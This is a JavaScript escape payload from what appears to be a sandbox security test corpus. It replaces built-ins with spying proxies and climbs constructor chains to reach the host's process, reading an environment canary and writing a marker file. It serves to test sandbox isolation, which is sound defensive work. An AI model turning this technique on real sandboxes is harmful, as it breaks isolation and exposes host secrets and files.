// @name    JSON, Promise, Error, Object, Array, Reflect and others replaced by spying proxies before the runtime uses them
// @family  prototype-tampering
// @ref     CVE-2022-25893 family (a bridge using built-ins the sandbox can replace)
// @expect  no-escape
// ---- prelude (the same in every escape payload of this corpus): what to do with the host once reached ----
const MARKER = "/tmp/codemode-escape-marker";
// pwn(p): p is the host's `process`. Take the canary and leave the marker file; the canary in the
// outcome (or the marker on disk) is what the runner reports as an escape.
function pwn(p) {
  let canary = "?";
  try { canary = String(p.env.CODEMODE_CANARY); } catch {}
  try {
    const fs = typeof p.getBuiltinModule === "function" ? p.getBuiltinModule("node:fs") : p.mainModule.require("node:fs");
    fs.writeFileSync(MARKER, "escaped " + canary);
  } catch {}
  return "ESCAPED " + canary;
}
// hostProcess(v): v when it looks like a host process object.
function hostProcess(v) {
  try { if (v !== null && typeof v === "object" && typeof v.pid === "number" && v.env) return v; } catch {}
  return null;
}
// viaCtor(F): F used as the Function constructor of another realm, asked for that realm's process.
function viaCtor(F) {
  if (typeof F !== "function") return null;
  const bodies = ["return process", "return globalThis.process", "return this && this.process",
    "return typeof require === 'function' ? require('node:process') : null"];
  for (const body of bodies) {
    try { const p = hostProcess(F(body)()); if (p) return pwn(p); } catch {}
  }
  return null;
}
// probe(x): x itself, then the constructors one and two steps up from x and from its prototype.
function probe(x) {
  if (x === null || x === undefined) return null;
  const direct = hostProcess(x);
  if (direct) return pwn(direct);
  const fns = [];
  const take = (f) => { if (typeof f === "function" && fns.indexOf(f) < 0) fns.push(f); };
  try { take(x.constructor); take(x.constructor && x.constructor.constructor); } catch {}
  try {
    const proto = Reflect.getPrototypeOf(Object(x));
    take(proto && proto.constructor);
    take(proto && proto.constructor && proto.constructor.constructor);
  } catch {}
  for (const f of fns) { const r = viaCtor(f); if (r) return r; }
  return null;
}
// ---- payload ----
let out = null, busy = false;
const R = Reflect, P = Proxy;
const watch = (xs) => {
  if (busy || out) return;
  busy = true;
  try { for (let i = 0; i < xs.length; i++) out = out || probe(xs[i]); } finally { busy = false; }
};
const spyOn = (target) => new P(target, {
  get(t, k) {
    const v = R.get(t, k, t);
    const d = R.getOwnPropertyDescriptor(t, k);
    if (typeof v !== "function" || (d && !d.configurable && !d.writable)) return v;
    return new P(v, {
      apply(f, thiz, args) { watch(args); watch([thiz]); return R.apply(f, thiz, args); },
      construct(f, args) { watch(args); return R.construct(f, args); },
    });
  },
  apply(f, thiz, args) { watch(args); return R.apply(f, thiz, args); },
  construct(f, args) { watch(args); return R.construct(f, args); },
});
const names = ["JSON", "Promise", "Error", "TypeError", "Object", "Array", "String", "Reflect", "Symbol", "Map", "WeakMap", "Set", "Function", "Math"];
const saved = {};
for (const n of names) { saved[n] = globalThis[n]; try { globalThis[n] = spyOn(saved[n]); } catch {} }
try {
  const r = await codemode.demo.echo({ a: [1, "two"], b: { c: null } });
  watch([r]);
  console.log("after", r, [r]);
  try { await codemode.demo.echo(() => 0); } catch (e) { watch([e]); }
  try { await codemode.demo.missing(); } catch (e) { watch([e]); }
} finally {
  for (const n of names) globalThis[n] = saved[n];
}
return out || "blocked";
